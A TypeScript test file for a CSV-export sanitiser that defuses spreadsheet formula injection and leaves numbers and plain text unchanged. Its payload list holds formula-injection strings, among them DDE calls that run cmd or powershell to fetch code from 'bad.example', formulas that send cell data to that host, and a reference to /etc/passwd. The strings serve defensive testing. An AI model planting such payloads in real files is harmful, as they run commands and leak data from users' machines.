import type { ColumnType } from '@ascent/schemas';
import { ReportName, reportColumns } from '@ascent/schemas';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, test } from 'vitest';
import { cellText, inert } from './cell';

/** What a spreadsheet takes for a formula, a command or an external call, and ways to hide it. */
const PAYLOADS = [
  '=1+1',
  '=1',
  '=',
  '==1',
  '=-1',
  "=cmd|' /C calc'!A0",
  "=cmd|'/c powershell IEX(wget bad.example/x)'!A1",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  '=HYPERLINK("http://bad.example?x="&A1,"click")',
  '=IMPORTXML("http://bad.example","//a")',
  '=IMPORTDATA("http://bad.example/x.csv")',
  '=IMPORTRANGE("id","A1")',
  '=IMAGE("http://bad.example/"&A1)',
  '=WEBSERVICE("http://bad.example")',
  '=DDE("cmd";"/C calc";"!A0")',
  "=SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=A1',
  '=Sheet2!A1',
  "='file:///etc/passwd'#$passwd.A1",
  '=TRUE',
  '="x"',
  '={1,2}',
  '=@SUM(A1)',
  '+1+1',
  '+A1',
  '+1',
  '+',
  "+cmd|' /C calc'!A0",
  '+HYPERLINK("http://bad.example")',
  '+351 912 345 678',
  '-1+1',
  '-A1',
  '-',
  '--1',
  '-1-1',
  "-2+3+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  '-1e5',
  '-1,5',
  '-.5',
  '-5%',
  '@SUM(1+1)',
  '@A1',
  '@',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '|calc',
  "|cmd' /C calc'!A0",
  '%0A=1+1',
  '%3D1%2B1',
  '\t=1+1',
  '\t1',
  '\tplain',
  '\r=1+1',
  '\rplain',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   -1+1',
  ' \t @SUM(1)',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u200e+1+1',
  '\u0000=1+1',
  '\u0001=1+1',
  '\u001f-1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  ' \uff1d1',
  ' -5',
  '\t-5',
  '-5\n',
];

describe('what a spreadsheet would run is made text', () => {
  test('there are at least sixty such payloads', () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(60);
  });

  test.each(PAYLOADS)('%j', (payload) => {
    expect(inert(payload)).toBe(`'${payload}`);
    const [[header], [cell]] = parse(stringify([[inert(payload)], [inert(payload)]])) as [[string], [string]];
    expect([header, cell]).toEqual([`'${payload}`, `'${payload}`]);
  });

  test('once: what is text already stays as it is', () => {
    for (const payload of PAYLOADS) expect(inert(inert(payload))).toBe(inert(payload));
  });
});

test.each(['0', '-0', '5', '-5', '12.50', '-12.50', '-0.05', '007', '1000000', '-9007199254740991.25'])(
  'the number %s stays a number',
  (number) => {
    expect(inert(number)).toBe(number);
  },
);

test.each([
  '',
  'Contoso',
  'A=1',
  'a-b',
  'me@x.example',
  '50%',
  '3 | 4',
  "d'Or",
  '東京',
  "'=1",
  '2026-10-20',
  '"=1"',
])('the text %j stays as it is', (text) => {
  expect(inert(text)).toBe(text);
});

test.each(ReportName.options)('no documented header of %s is touched', (report) => {
  for (const { header } of reportColumns(report)) expect(inert(header)).toBe(header);
});

describe('the text of a stored value', () => {
  test.each<[ColumnType, string | number | null | undefined, string]>([
    ['decimal', 1_845_000, '18450.00'],
    ['decimal', 5, '0.05'],
    ['decimal', 0, '0.00'],
    ['decimal', 100, '1.00'],
    ['decimal', -5, '-0.05'],
    ['decimal', -12_345, '-123.45'],
    ['decimal', 99_999_999_999_999, '999999999999.99'],
    ['decimal', null, ''],
    ['integer', 0, '0'],
    ['integer', 140, '140'],
    ['integer', null, ''],
    ['string', '', ''],
    ['string', 'Contoso; Ltd', 'Contoso; Ltd'],
    ['string', undefined, ''],
    ['date', '2026-09-30', '2026-09-30'],
    ['yesno', 'No', 'No'],
    ['enum', 'Act Now', 'Act Now'],
    ['list', 'Backup; App services', 'Backup; App services'],
  ])('%s of %s is %j', (type, stored, text) => {
    expect(cellText(type, stored)).toBe(text);
  });

  test('is a number to a spreadsheet whenever it is one', () => {
    for (const cents of [-100_000, -99, -1, 0, 1, 99, 12_345_678])
      expect(inert(cellText('decimal', cents))).toBe(cellText('decimal', cents));
  });
});
